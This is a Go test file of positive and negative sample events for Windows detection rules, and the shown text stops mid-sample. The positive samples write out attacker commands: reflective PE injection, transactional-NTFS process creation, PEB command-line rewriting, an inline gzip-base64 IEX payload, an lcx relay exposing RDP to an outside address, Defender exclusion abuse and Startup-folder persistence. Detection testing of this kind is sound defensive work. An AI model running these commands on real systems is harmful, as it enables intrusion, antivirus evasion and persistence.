// Samples for the rules in rules/*/d_*.yml: each positive is an event
// written for its rule from the behaviour it describes, each negative a
// benign event of the same kind that the rule must not match.

package detect

import (
	"context"
	"slices"
	"testing"
	"time"

	"github.com/huntflow/huntflow"
)

func init() {
	rulePositives = append(rulePositives,
		ruleSample{
			ID:      "9883e14a-cd2e-4dbf-9974-861e60ab2c2a", // Process Writes an Archive or Memory Dump File
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"TargetFilename": `C:\Users\bob\AppData\Local\Temp\docs.zip`,
			},
		},
		ruleSample{
			ID:      "8f3e9f57-4645-4250-85e3-7fba7144713d", // Process Connects to a Public Address
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
			Fields: map[string]string{
				"Image":           `C:\Users\bob\AppData\Local\Temp\update.exe`,
				"DestinationIp":   "203.0.113.7",
				"DestinationPort": "443",
				"Initiated":       "true",
			},
		},
		ruleSample{
			ID:      "3ddf4904-b93d-4f18-83c4-3b8852e47435", // Remote Thread Starts Outside Any Loaded Module (PE Injection)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 8,
			Fields: map[string]string{
				"SourceImage":   `C:\Users\bob\AppData\Local\Temp\loader.exe`,
				"TargetImage":   `C:\Windows\System32\notepad.exe`,
				"StartAddress":  "0x0000020A5B1C0000",
				"StartModule":   "",
				"StartFunction": "",
			},
		},
		ruleSample{
			ID:      "e3cc6a72-48fa-4b70-b758-cfdc51f14899", // Script Injects a PE Into Another Process With Invoke-ReflectivePEInjection
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$b=[IO.File]::ReadAllBytes("C:\Users\bob\m.dll"); Invoke-ReflectivePEInjection -PEBytes $b -ProcId 4312`,
			},
		},
		ruleSample{
			ID:      "849e9952-df34-4ff8-8ee9-34ffded3b4c9", // Script Uses Transactional NTFS to Create a Process From a Rolled-Back File
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$tx=[Ktm]::CreateTransaction([IntPtr]::Zero,[IntPtr]::Zero,0,0,0,0,$null); $h=[Ktm]::CreateFileTransacted("C:\Windows\Temp\svc.exe",0xC0000000,0,[IntPtr]::Zero,2,0x80,[IntPtr]::Zero,$tx,[IntPtr]::Zero,[IntPtr]::Zero); [Nt]::NtCreateSection([ref]$sec,0xF001F,[IntPtr]::Zero,[IntPtr]::Zero,2,0x1000000,$h); [Ktm]::RollbackTransaction($tx)`,
			},
		},
		ruleSample{
			ID:      "cf864a9f-6b52-4c8b-85cb-92dc7153d94b", // Script Host or LOLBin Resolves a Social-Media or Blog Site
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
			Fields: map[string]string{
				"Image":     `C:\Windows\System32\rundll32.exe`,
				"QueryName": "steamcommunity.com",
			},
		},
		ruleSample{
			ID:      "54070e5a-97e5-49dc-bc27-f1e4c3124bb7", // Port Relay or SOCKS Proxy Tool Run (HTRAN, LCX, EarthWorm, ZXPortMap)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\ProgramData\lcx.exe`,
				"CommandLine": `C:\ProgramData\lcx.exe -slave 198.51.100.9 51 127.0.0.1 3389`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "54070e5a-97e5-49dc-bc27-f1e4c3124bb7", // Port Relay or SOCKS Proxy Tool Run (HTRAN, LCX, EarthWorm, ZXPortMap)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Users\Public\svc.exe`,
				"CommandLine": `svc.exe -s rssocks -d 198.51.100.9 -e 8888`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "a3668dd3-b981-492c-b954-87e757fbf19b", // Script Creates a Shortcut Whose Icon Location Is a URL
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$s=(New-Object -ComObject WScript.Shell).CreateShortcut("$env:USERPROFILE\Desktop\Invoice.lnk"); $s.TargetPath="C:\Windows\System32\cmd.exe"; $s.IconLocation="http://198.51.100.9/i.ico"; $s.Save()`,
			},
		},
		ruleSample{
			ID:      "ae38b74f-aec8-4182-9f71-e5a38c70c1bb", // Script Block Carries an Embedded Windows Executable
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$p="TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFt"; [IO.File]::WriteAllBytes("$env:TEMP\u.exe",[Convert]::FromBase64String($p))`,
			},
		},
		ruleSample{
			ID:      "9ba444f5-9c4d-4644-869b-7f5dede4cabb", // Command Reads the Defender Exclusion List
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"CommandLine": `powershell.exe -c "Get-MpPreference | Select-Object -ExpandProperty ExclusionPath"`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "9ba444f5-9c4d-4644-869b-7f5dede4cabb", // Command Reads the Defender Exclusion List
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\reg.exe`,
				"CommandLine": `reg query "HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths"`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "61302329-a4f8-4e19-a106-7b8c2befcaf1", // Script Reads the Defender Exclusion List
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$ex = (Get-MpPreference).ExclusionPath; foreach ($p in $ex) { Copy-Item .\a.exe $p }`,
			},
		},
		ruleSample{
			ID:      "61302329-a4f8-4e19-a106-7b8c2befcaf1", // Script Reads the Defender Exclusion List
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Get-ItemProperty "HKLM:\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths"`,
			},
		},
		ruleSample{
			ID:      "53c36ad9-e491-40c6-9303-f5f695b6a146", // Script Copies or Moves Its Own File Elsewhere
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Copy-Item -Path $MyInvocation.MyCommand.Path -Destination "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\svchost.ps1" -Force`,
			},
		},
		ruleSample{
			ID:      "53c36ad9-e491-40c6-9303-f5f695b6a146", // Script Copies or Moves Its Own File Elsewhere
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `[IO.File]::Move($PSCommandPath, "C:\ProgramData\WindowsUpdate\wuauclt.ps1")`,
			},
		},
		ruleSample{
			ID:      "b3e62427-e6cd-4e33-95f0-541038fd5a53", // JamPlus Build Tool Runs a Jam File or Starts a Shell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Users\bob\Downloads\JamPlus\bin\jam.exe`,
				"CommandLine": `jam.exe -f C:\Users\bob\Downloads\build.jam`,
				"ParentImage": `C:\Windows\explorer.exe`,
			},
		},
		ruleSample{
			ID:      "b3e62427-e6cd-4e33-95f0-541038fd5a53", // JamPlus Build Tool Runs a Jam File or Starts a Shell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\cmd.exe`,
				"CommandLine": `cmd.exe /c powershell -w hidden -f C:\Users\bob\AppData\Local\Temp\a.ps1`,
				"ParentImage": `C:\Users\bob\Downloads\JamPlus\bin\jam.exe`,
			},
		},
		ruleSample{
			ID:      "7a668ae1-b3ac-4aad-afcb-bd1d1b87ab8b", // Script Runs a Program Through a COM Object's Execute Method
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$c=[Activator]::CreateInstance([Type]::GetTypeFromProgID("MMC20.Application")); $c.Document.ActiveView.ExecuteShellCommand("cmd.exe",$null,"/c calc.exe","7")`,
			},
		},
		ruleSample{
			ID:      "7a668ae1-b3ac-4aad-afcb-bd1d1b87ab8b", // Script Runs a Program Through a COM Object's Execute Method
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$sw=[Activator]::CreateInstance([Type]::GetTypeFromCLSID("9BA05972-F6A8-11CF-A442-00A0C90A8F39")); $sw.Item().Document.Application.ShellExecute("powershell.exe","-nop -w hidden -f C:\Users\Public\p.ps1","C:\Windows\System32",$null,0)`,
			},
		},
		ruleSample{
			ID:      "2bf44b77-c6e1-43cc-86c7-0f76615a3fdf", // Python or Node Package Installed From a URL, Git Repository or Extra Index
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Users\bob\AppData\Local\Programs\Python\Python312\python.exe`,
				"CommandLine": `python.exe -m pip install --extra-index-url https://pypi-mirror.example.net/simple requessts`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "2bf44b77-c6e1-43cc-86c7-0f76615a3fdf", // Python or Node Package Installed From a URL, Git Repository or Extra Index
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Program Files\nodejs\node.exe`,
				"CommandLine": `"C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" npm install git+https://github.com/someone/colors-fork.git`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "0940d421-9938-440d-b5a5-2a315989987a", // Script Decompresses an Inline Base64 Payload With GzipStream or DeflateStream
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAAAAAAAEAMsoKSkottLXT8tMzi8tsbLwBABMZXWiEwAAAA=="))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
			},
		},
		ruleSample{
			ID:      "3a8c3c15-e302-4e77-9744-2fce4346abd1", // Command Line Decompresses an Inline Base64 Payload
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"CommandLine": `powershell.exe -nop -w hidden -c "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAAAAAAAEAMsoKSkottLXT8tMzi8tsbLwBABMZXWiEwAAAA=="))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "0c147dbc-662d-4452-b853-31c011223e2e", // Script Rewrites a Suspended Process's Command Line in Its PEB
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `[Win32]::CreateProcess($null,"powershell.exe -c Get-Date",[IntPtr]::Zero,[IntPtr]::Zero,$false,0x4,[IntPtr]::Zero,$null,[ref]$si,[ref]$pi); [Win32]::NtQueryInformationProcess($pi.hProcess,0,[ref]$pbi,48,[ref]$r); $pp=[Win32]::ReadPtr($pi.hProcess,$pbi.PebBaseAddress+0x20) # ProcessParameters
[Win32]::WriteProcessMemory($pi.hProcess,$cmdBuf,$real,$real.Length,[ref]$w); [Win32]::ResumeThread($pi.hThread)`,
			},
		},
		ruleSample{
			ID:      "d13d98b6-7072-4880-82ca-3c56f480e5f6", // Browser Opens an SVG File From a Mail Attachment, Download or Temp Folder
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`,
				"CommandLine": `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument C:\Users\bob\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q2W3E4R5\Voicemail_0412.svg`,
				"ParentImage": `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`,
			},
		},
		ruleSample{
			ID:      "d33f5938-9eaa-4c74-80d4-91af79d6f2e9", // Outlook Opens a Web Link in a Browser
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`,
				"CommandLine": `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://login-micros0ft.example.net/reset?u=bob`,
				"ParentImage": `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`,
			},
		},
		ruleSample{
			ID:      "f2d441d7-0d71-4ca4-8802-294ad2eb3ffd", // Local Account Logs On From the Network
			Channel: "Security", EventID: 4624,
			Fields: map[string]string{
				"LogonType":                 "3",
				"TargetUserName":            "Administrator",
				"TargetDomainName":          "WS01",
				"IpAddress":                 "10.0.0.23",
				"AuthenticationPackageName": "NTLM",
			},
		},
		ruleSample{
			ID:      "633fa122-b575-4c12-9573-8f1d9714b636", // Program Has a Shell Copy or Move Its Own Executable
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\cmd.exe`,
				"CommandLine": `cmd.exe /c copy /y "C:\Users\bob\Downloads\Invoice_2231.exe" "C:\ProgramData\Microsoft\svchost.exe" & del "C:\Users\bob\Downloads\Invoice_2231.exe"`,
				"ParentImage": `C:\Users\bob\Downloads\Invoice_2231.exe`,
			},
		},
		ruleSample{
			ID:      "cd8498f2-f655-45e9-ab08-3050a0977f5b", // Executable Grown With fsutil setEOF (Binary Padding)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\fsutil.exe`,
				"CommandLine": `fsutil file seteof "C:\Users\Public\update.exe" 314572800`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
	)
	ruleNegatives = append(ruleNegatives,
		ruleSample{
			ID:      "9883e14a-cd2e-4dbf-9974-861e60ab2c2a", // Process Writes an Archive or Memory Dump File
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
			Fields: map[string]string{
				"Image":          `C:\Windows\System32\WerFault.exe`,
				"TargetFilename": `C:\ProgramData\Microsoft\Windows\WER\Temp\WER1A2B.tmp.dmp`,
			},
		},
		ruleSample{
			ID:      "8f3e9f57-4645-4250-85e3-7fba7144713d", // Process Connects to a Public Address
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
			Fields: map[string]string{
				"Image":           `C:\Users\bob\AppData\Local\Temp\update.exe`,
				"DestinationIp":   "192.168.1.20",
				"DestinationPort": "443",
				"Initiated":       "true",
			},
		},
		ruleSample{
			ID:      "8f3e9f57-4645-4250-85e3-7fba7144713d", // Process Connects to a Public Address
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
			Fields: map[string]string{
				"Image":           `C:\Program Files\Google\Chrome\Application\chrome.exe`,
				"DestinationIp":   "142.250.74.36",
				"DestinationPort": "443",
				"Initiated":       "true",
			},
		},
		ruleSample{
			ID:      "3ddf4904-b93d-4f18-83c4-3b8852e47435", // Remote Thread Starts Outside Any Loaded Module (PE Injection)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 8,
			Fields: map[string]string{
				"SourceImage":   `C:\Users\bob\AppData\Local\Temp\loader.exe`,
				"TargetImage":   `C:\Windows\System32\notepad.exe`,
				"StartAddress":  "0x00007FFB1C2A1E40",
				"StartModule":   `C:\Windows\System32\KERNEL32.DLL`,
				"StartFunction": "LoadLibraryW",
			},
		},
		ruleSample{
			ID:      "3ddf4904-b93d-4f18-83c4-3b8852e47435", // Remote Thread Starts Outside Any Loaded Module (PE Injection)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 8,
			Fields: map[string]string{
				"SourceImage":  `C:\Windows\System32\csrss.exe`,
				"TargetImage":  `C:\Windows\System32\cmd.exe`,
				"StartAddress": "0x00007FFB1C2A1E40",
				"StartModule":  "",
			},
		},
		ruleSample{
			ID:      "e3cc6a72-48fa-4b70-b758-cfdc51f14899", // Script Injects a PE Into Another Process With Invoke-ReflectivePEInjection
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$b=[IO.File]::ReadAllBytes("C:\Users\bob\m.dll"); Invoke-ReflectivePEInjection -PEBytes $b -ExeArgs "x"`,
			},
		},
		ruleSample{
			ID:      "849e9952-df34-4ff8-8ee9-34ffded3b4c9", // Script Uses Transactional NTFS to Create a Process From a Rolled-Back File
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `# TxF is deprecated; use ReplaceFile instead of CreateFileTransacted in new code.
[IO.File]::Replace($tmp,$dst,$bak)`,
			},
		},
		ruleSample{
			ID:      "cf864a9f-6b52-4c8b-85cb-92dc7153d94b", // Script Host or LOLBin Resolves a Social-Media or Blog Site
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
			Fields: map[string]string{
				"Image":     `C:\Program Files\Google\Chrome\Application\chrome.exe`,
				"QueryName": "steamcommunity.com",
			},
		},
		ruleSample{
			ID:      "cf864a9f-6b52-4c8b-85cb-92dc7153d94b", // Script Host or LOLBin Resolves a Social-Media or Blog Site
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
			Fields: map[string]string{
				"Image":     `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"QueryName": "www.powershellgallery.com",
			},
		},
		ruleSample{
			ID:      "cf864a9f-6b52-4c8b-85cb-92dc7153d94b", // Script Host or LOLBin Resolves a Social-Media or Blog Site
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
			Fields: map[string]string{
				"Image":     `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"QueryName": "fedex.com",
			},
		},
		ruleSample{
			ID:      "cf864a9f-6b52-4c8b-85cb-92dc7153d94b", // Script Host or LOLBin Resolves a Social-Media or Blog Site
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 22,
			Fields: map[string]string{
				"Image":     `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"QueryName": "chat.me",
			},
		},
		ruleSample{
			ID:      "54070e5a-97e5-49dc-bc27-f1e4c3124bb7", // Port Relay or SOCKS Proxy Tool Run (HTRAN, LCX, EarthWorm, ZXPortMap)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Program Files\ffmpeg\bin\ffmpeg.exe`,
				"CommandLine": `ffmpeg.exe -listen 1 -i rtmp://0.0.0.0:1935/live out.mp4`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "54070e5a-97e5-49dc-bc27-f1e4c3124bb7", // Port Relay or SOCKS Proxy Tool Run (HTRAN, LCX, EarthWorm, ZXPortMap)
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\netsh.exe`,
				"CommandLine": `netsh interface portproxy show all`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "a3668dd3-b981-492c-b954-87e757fbf19b", // Script Creates a Shortcut Whose Icon Location Is a URL
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$s=(New-Object -ComObject WScript.Shell).CreateShortcut("$env:USERPROFILE\Desktop\Notepad.lnk"); $s.TargetPath="C:\Windows\notepad.exe"; $s.IconLocation="C:\Windows\notepad.exe,0"; $s.Save()`,
			},
		},
		ruleSample{
			ID:      "ae38b74f-aec8-4182-9f71-e5a38c70c1bb", // Script Block Carries an Embedded Windows Executable
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$logo="iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAA"; [IO.File]::WriteAllBytes("$env:TEMP\logo.png",[Convert]::FromBase64String($logo))`,
			},
		},
		ruleSample{
			ID:      "9ba444f5-9c4d-4644-869b-7f5dede4cabb", // Command Reads the Defender Exclusion List
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"CommandLine": `powershell.exe -c "Get-MpPreference | Select-Object DisableRealtimeMonitoring"`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "9ba444f5-9c4d-4644-869b-7f5dede4cabb", // Command Reads the Defender Exclusion List
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\reg.exe`,
				"CommandLine": `reg query "HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates"`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "61302329-a4f8-4e19-a106-7b8c2befcaf1", // Script Reads the Defender Exclusion List
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `Get-MpPreference | Select-Object DisableRealtimeMonitoring, SignatureScheduleDay`,
			},
		},
		ruleSample{
			ID:      "61302329-a4f8-4e19-a106-7b8c2befcaf1", // Script Reads the Defender Exclusion List
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$cur = (Get-MpPreference).ExclusionPath; if ($cur -notcontains "D:\SQLData") { Add-MpPreference -ExclusionPath "D:\SQLData" }`,
			},
		},
		ruleSample{
			ID:      "53c36ad9-e491-40c6-9303-f5f695b6a146", // Script Copies or Moves Its Own File Elsewhere
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$here = Split-Path -Parent $MyInvocation.MyCommand.Path; Copy-Item "$here\config.json" "$env:APPDATA\tool\config.json"`,
			},
		},
		ruleSample{
			ID:      "b3e62427-e6cd-4e33-95f0-541038fd5a53", // JamPlus Build Tool Runs a Jam File or Starts a Shell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Tools\jam\jam.exe`,
				"CommandLine": `jam.exe -v`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "b3e62427-e6cd-4e33-95f0-541038fd5a53", // JamPlus Build Tool Runs a Jam File or Starts a Shell
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\cmd.exe`,
				"CommandLine": `cmd.exe /c echo jam.exe`,
				"ParentImage": `C:\Windows\explorer.exe`,
			},
		},
		ruleSample{
			ID:      "7a668ae1-b3ac-4aad-afcb-bd1d1b87ab8b", // Script Runs a Program Through a COM Object's Execute Method
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$sh = New-Object -ComObject Shell.Application; $sh.Namespace("C:\Users\bob\Downloads").Items() | Select-Object Name`,
			},
		},
		ruleSample{
			ID:      "2bf44b77-c6e1-43cc-86c7-0f76615a3fdf", // Python or Node Package Installed From a URL, Git Repository or Extra Index
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Users\bob\AppData\Local\Programs\Python\Python312\python.exe`,
				"CommandLine": `python.exe -m pip install requests==2.32.3`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "2bf44b77-c6e1-43cc-86c7-0f76615a3fdf", // Python or Node Package Installed From a URL, Git Repository or Extra Index
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Program Files\nodejs\node.exe`,
				"CommandLine": `"C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" install express`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "0940d421-9938-440d-b5a5-2a315989987a", // Script Decompresses an Inline Base64 Payload With GzipStream or DeflateStream
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `$fs=[IO.File]::Create("C:\Backup\log.gz"); $gz=New-Object IO.Compression.GzipStream($fs,[IO.Compression.CompressionMode]::Compress); $in.CopyTo($gz)`,
			},
		},
		ruleSample{
			ID:      "3a8c3c15-e302-4e77-9744-2fce4346abd1", // Command Line Decompresses an Inline Base64 Payload
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				"CommandLine": `powershell.exe -c "Expand-Archive C:\Users\bob\Downloads\tools.zip -DestinationPath C:\Tools"`,
				"ParentImage": `C:\Windows\System32\cmd.exe`,
			},
		},
		ruleSample{
			ID:      "0c147dbc-662d-4452-b853-31c011223e2e", // Script Rewrites a Suspended Process's Command Line in Its PEB
			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
			Fields: map[string]string{
				"ScriptBlockText": `[Win32]::NtQueryInformationProcess($h,0,[ref]$pbi,48,[ref]$r); $params = Read-Peb $h $pbi.PebBaseAddress; $params.ProcessParameters.CommandLine`,
			},
		},
		ruleSample{
			ID:      "d13d98b6-7072-4880-82ca-3c56f480e5f6", // Browser Opens an SVG File From a Mail Attachment, Download or Temp Folder
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`,
				"CommandLine": `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument C:\Users\bob\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q2W3E4R5\agenda.pdf`,
				"ParentImage": `C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`,
			},
		},
		ruleSample{
			ID:      "d13d98b6-7072-4880-82ca-3c56f480e5f6", // Browser Opens an SVG File From a Mail Attachment, Download or Temp Folder
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`,
				"CommandLine": `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://cdn.example.com/img/logo.svg`,
				"ParentImage": `C:\Windows\explorer.exe`,
			},
		},
		ruleSample{
			ID:      "d33f5938-9eaa-4c74-80d4-91af79d6f2e9", // Outlook Opens a Web Link in a Browser
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`,
				"CommandLine": `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://intranet.example.local/`,
				"ParentImage": `C:\Windows\explorer.exe`,
			},
		},
		ruleSample{
			ID:      "f2d441d7-0d71-4ca4-8802-294ad2eb3ffd", // Local Account Logs On From the Network
			Channel: "Security", EventID: 4624,
			Fields: map[string]string{
				"LogonType":                 "3",
				"TargetUserName":            "bob",
				"TargetDomainName":          "EXAMPLE",
				"IpAddress":                 "10.0.0.23",
				"AuthenticationPackageName": "NTLM",
			},
		},
		ruleSample{
			ID:      "f2d441d7-0d71-4ca4-8802-294ad2eb3ffd", // Local Account Logs On From the Network
			Channel: "Security", EventID: 4624,
			Fields: map[string]string{
				"LogonType":                 "3",
				"TargetUserName":            "ANONYMOUS LOGON",
				"TargetDomainName":          "NT AUTHORITY",
				"IpAddress":                 "10.0.0.23",
				"AuthenticationPackageName": "NTLM",
			},
		},
		ruleSample{
			ID:      "f2d441d7-0d71-4ca4-8802-294ad2eb3ffd", // Local Account Logs On From the Network
			Channel: "Security", EventID: 4624,
			Fields: map[string]string{
				"LogonType":                 "3",
				"TargetUserName":            "Administrator",
				"TargetDomainName":          "WS01",
				"IpAddress":                 "127.0.0.1",
				"AuthenticationPackageName": "NTLM",
			},
		},
		ruleSample{
			ID:      "633fa122-b575-4c12-9573-8f1d9714b636", // Program Has a Shell Copy or Move Its Own Executable
			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
			Fields: map[string]string{
				"Image":       `C:\Windows\System32\cmd.exe`,
				"CommandLine": `cmd.exe /c copy /y "C:\Users\bob\Downloads\report.csv" "C:\Users\bob\Documents\report.csv"`,
				"ParentImage": `C:\Users\bob\Downloads\Invoice_2231.exe`,
			},
		},
		ruleSample{
			ID:      "633fa122-b575-4c12-9573-8f1d9714b636", // Program Has a Shell Copy or Move Its Own Executable
